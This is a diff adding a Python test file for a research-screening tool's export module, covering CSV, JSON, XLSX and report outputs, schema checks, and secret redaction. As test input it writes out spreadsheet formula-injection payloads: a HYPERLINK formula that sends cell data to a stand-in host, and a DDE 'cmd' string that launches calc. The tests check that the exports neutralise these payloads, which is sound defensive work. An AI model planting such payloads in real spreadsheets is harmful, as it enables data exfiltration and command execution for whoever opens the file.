@@ -1,0 +1,248 @@
+"""tracker.exports on real recorded works: CSV, JSON (against its schema), XLSX, run.json,
+the report folder, formula injection and secrets."""
+
+from __future__ import annotations
+
+import csv
+import json
+import zipfile
+from datetime import date, datetime
+
+import jsonschema
+import networkx as nx
+import pytest
+from openpyxl import load_workbook
+
+from tests.browser.demo import (
+    DemoResult,
+    demo_registry,
+    demo_result,
+    load_works,
+    screen,
+    tampered_result,
+)
+from tracker.exports import (
+    find_secrets,
+    findings_schema,
+    neutralise,
+    scrub_secrets,
+    write_csv,
+    write_json,
+    write_report_folder,
+    write_run,
+    write_xlsx,
+)
+from tracker.risk import FINDING_COLUMNS
+
+FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+FORMULA_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
+SECRET = "sk-SECRET-5f1c9e"
+
+
+@pytest.fixture(scope="module")
+def demo() -> DemoResult:
+    return demo_result()
+
+
+@pytest.fixture(scope="module")
+def formula() -> DemoResult:
+    return tampered_result(FORMULA_TITLE, FORMULA_TEXT)
+
+
+def _secret_run(r: DemoResult) -> dict:
+    run = json.loads(json.dumps(r.run))
+    run["settings"]["api_key"] = SECRET
+    run["settings"]["openalex"] = {"Authorization": f"Bearer {SECRET}", "mailto": "a@b.org"}
+    run["command"] = ["tracker", "screen", "--api-key", SECRET, "--org", "I1"]
+    run["inputs"].append({"url": f"https://api.openalex.org/works?filter=x&api_key={SECRET}"})
+    run["note"] = f"ran with --token={SECRET}"
+    return run
+
+
+@pytest.mark.parametrize(("cell", "expected"), [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Beihang University", "Beihang University"),
+    (" =1", " =1"), ("", ""), (0.5, 0.5), (True, True), (None, None),
+])
+def test_neutralise(cell, expected):
+    assert neutralise(cell) == expected
+
+
+def test_csv_has_the_contract_columns_and_every_finding(demo, tmp_path):
+    path = write_csv(demo.findings, tmp_path / "findings.csv")
+    with path.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert tuple(rows[0]) == FINDING_COLUMNS
+    assert len(rows) == len(demo.findings) + 1
+    by_id = {r[0]: dict(zip(FINDING_COLUMNS, r, strict=True)) for r in rows[1:]}
+    for f in demo.findings:
+        got = by_id[f.finding_id]
+        assert got["work_id"] == f.work_id and got["raw_affiliation"] == neutralise(
+            f.raw_affiliation)
+        assert got["listed_on"] == f.listed_on
+        assert got["is_designation"] == ("true" if f.is_designation else "false")
+        assert float(got["match_score"]) == f.match_score
+
+
+def test_csv_neutralises_formulas_from_the_data(formula, tmp_path):
+    path = write_csv(formula.findings, tmp_path / "f.csv")
+    with path.open(encoding="utf-8", newline="") as fh:
+        rows = [dict(zip(FINDING_COLUMNS, r, strict=True)) for r in list(csv.reader(fh))[1:]]
+    hit = [r for r in rows if FORMULA_TITLE in r["title"]]
+    assert hit
+    for r in hit:
+        assert r["title"] == "'" + FORMULA_TITLE
+        assert r["author_name"] == "'" + FORMULA_TEXT
+        assert r["raw_affiliation"] == "'" + FORMULA_TEXT
+    for r in rows:  # nothing in any cell starts a formula
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())
+
+
+def test_json_validates_against_its_schema(demo, tmp_path):
+    schema = findings_schema()
+    jsonschema.Draft202012Validator.check_schema(schema)
+    assert tuple(schema["$defs"]["finding"]["properties"]) == FINDING_COLUMNS
+    doc = json.loads(write_json(demo.findings, demo.run, tmp_path / "f.json").read_text())
+    jsonschema.validate(doc, schema, cls=jsonschema.Draft202012Validator)
+    assert [list(f) for f in doc["findings"][:1]] == [list(FINDING_COLUMNS)]
+    assert len(doc["findings"]) == len(demo.findings)
+    assert doc["run"]["counts"]["findings"] == len(demo.findings)
+
+
+def test_schema_rejects_what_it_should(demo, tmp_path):
+    doc = json.loads(write_json(demo.findings, demo.run, tmp_path / "f.json").read_text())
+    validator = jsonschema.Draft202012Validator(findings_schema())
+    for mutate in (
+        lambda d: d["findings"][0].__setitem__("listed_at_publication", "probably"),
+        lambda d: d["findings"][0].__setitem__("listed_on", "June 2020"),
+        lambda d: d["findings"][0].__setitem__("match_score", "1.0"),
+        lambda d: d["findings"][0].pop("review_status"),
+        lambda d: d["findings"][0].__setitem__("surname_origin", "x"),
+        lambda d: d["run"].pop("tool"),
+    ):
+        bad = json.loads(json.dumps(doc))
+        mutate(bad)
+        assert not validator.is_valid(bad)
+
+
+def test_json_keeps_exact_values(formula, tmp_path):
+    doc = json.loads(write_json(formula.findings, formula.run, tmp_path / "f.json").read_text())
+    assert any(f["title"] == FORMULA_TITLE and f["author_name"] == FORMULA_TEXT
+               for f in doc["findings"])
+
+
+def test_xlsx_types_header_filter_and_run_sheet(demo, tmp_path):
+    path = write_xlsx(demo.findings, demo.run, tmp_path / "f.xlsx")
+    wb = load_workbook(path)
+    assert wb.sheetnames == ["findings", "run"]
+    ws = wb["findings"]
+    assert tuple(c.value for c in ws[1]) == FINDING_COLUMNS
+    assert ws.freeze_panes == "A2"
+    assert ws.auto_filter.ref == f"A1:AG{len(demo.findings) + 1}"
+    assert ws.max_row == len(demo.findings) + 1
+    col = {name: i for i, name in enumerate(FINDING_COLUMNS)}
+    by_id = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
+    for f in demo.findings:
+        row = by_id[f.finding_id]
+        pub = row[col["publication_date"]]
+        if len(f.publication_date) == 10:
+            assert isinstance(pub, datetime) and pub.date() == date.fromisoformat(
+                f.publication_date)
+        else:  # a bare year stays text: never a guessed 1 January
+            assert pub == f.publication_date
+        if f.listed_on:
+            assert row[col["listed_on"]].date() == date.fromisoformat(f.listed_on)
+        assert row[col["match_score"]] == f.match_score
+        assert row[col["is_designation"]] is f.is_designation
+    run = {r[0]: r[1] for r in wb["run"].iter_rows(min_row=2, values_only=True)}
+    assert run["counts.findings"] == len(demo.findings)
+    assert run["registry.editions[0].list"] == demo.run["registry"]["editions"][0]["list"]
+    assert run["tool"] == "tracker"
+
+
+def test_xlsx_stores_formula_like_text_as_text(formula, tmp_path):
+    path = write_xlsx(formula.findings, formula.run, tmp_path / "f.xlsx")
+    ws = load_workbook(path)["findings"]
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row
+             if c.value in (FORMULA_TITLE, FORMULA_TEXT)]
+    assert len(cells) >= 3
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert "<f>" not in z.read(name).decode("utf-8")
+
+
+def test_xlsx_survives_control_characters(demo, tmp_path):
+    r = tampered_result("a\x00b\x1bc", "=x\x07")
+    wb = load_workbook(write_xlsx(r.findings, r.run, tmp_path / "c.xlsx"))
+    titles = {row[3] for row in wb["findings"].iter_rows(min_row=2, values_only=True)}
+    assert "a\ufffdb\ufffdc" in titles
+
+
+def test_secrets_never_leave_the_run_record(demo, tmp_path):
+    run = _secret_run(demo)
+    assert find_secrets(run)
+    clean = scrub_secrets(run)
+    assert find_secrets(clean) == []
+    assert clean["settings"]["openalex"]["mailto"] == "a@b.org"
+    assert clean["command"] == ["tracker", "screen", "--api-key", "[redacted]", "--org", "I1"]
+    paths = [write_run(run, tmp_path / "run.json"),
+             write_json(demo.findings, run, tmp_path / "f.json"),
+             write_xlsx(demo.findings, run, tmp_path / "f.xlsx")]
+    for p in paths:
+        data = p.read_bytes()
+        if p.suffix == ".xlsx":
+            with zipfile.ZipFile(p) as z:
+                data = b"".join(z.read(n) for n in z.namelist())
+        assert SECRET.encode() not in data, p.name
+    assert find_secrets(json.loads(paths[0].read_text())) == []
+
+
+def test_report_folder_writes_all_seven_files(demo, tmp_path):
+    r = DemoResult(demo.findings, demo.works, _secret_run(demo), demo.subjects)
+    files = write_report_folder(r, tmp_path / "out")
+    assert list(files) == ["findings.csv", "findings.json", "findings.xlsx", "run.json",
+                           "report.html", "network.graphml", "network.gexf"]
+    for name, p in files.items():
+        assert p == tmp_path / "out" / name and p.stat().st_size > 0
+        data = p.read_bytes()
+        if p.suffix != ".xlsx":
+            assert SECRET.encode() not in data, name
+    g = nx.read_graphml(files["network.graphml"])
+    assert g.number_of_nodes() > len(demo.works)
+    assert {d["kind"] for _, d in g.nodes(data=True)} == {"work", "author", "institution"}
+    assert nx.read_gexf(files["network.gexf"]).number_of_nodes() == g.number_of_nodes()
+    doc = json.loads(files["findings.json"].read_text())
+    jsonschema.validate(doc, findings_schema(), cls=jsonschema.Draft202012Validator)
+
+
+def test_report_folder_from_the_real_screening_pipeline(tmp_path):
+    """Contract check with tracker.screening's ScreenResult (its subjects/run shapes)."""
+    from tracker.screening import ScreenSettings, SubjectSpec
+    from tracker.screening import screen as real_screen
+
+    works = load_works()
+    subject = SubjectSpec(kind="org", ids=("I4210113369",),
+                          label="Microsoft Research Asia (China)")
+    r = real_screen(works, registry=demo_registry(), settings=ScreenSettings(),
+                    subjects=[subject])
+    assert r.findings
+    files = write_report_folder(r, tmp_path)
+    doc = json.loads(files["findings.json"].read_text())
+    jsonschema.validate(doc, findings_schema(), cls=jsonschema.Draft202012Validator)
+    html_text = files["report.html"].read_text()
+    assert "Microsoft Research Asia (China) <code>I4210113369</code>" in html_text
+    g = nx.read_graphml(files["network.graphml"])
+    assert g.nodes["inst:I4210113369"]["is_subject"] is True
+
+
+def test_empty_findings_still_write_valid_files(tmp_path):
+    r = screen(load_works(limit=3), demo_registry().restricted_to(["CA_NRO"]))
+    files = write_report_folder(r, tmp_path)
+    with files["findings.csv"].open(encoding="utf-8") as fh:
+        assert list(csv.reader(fh)) == [list(FINDING_COLUMNS)]
+    doc = json.loads(files["findings.json"].read_text())
+    jsonschema.validate(doc, findings_schema(), cls=jsonschema.Draft202012Validator)
+    assert doc["findings"] == []
+    assert load_workbook(files["findings.xlsx"])["findings"].max_row == 1
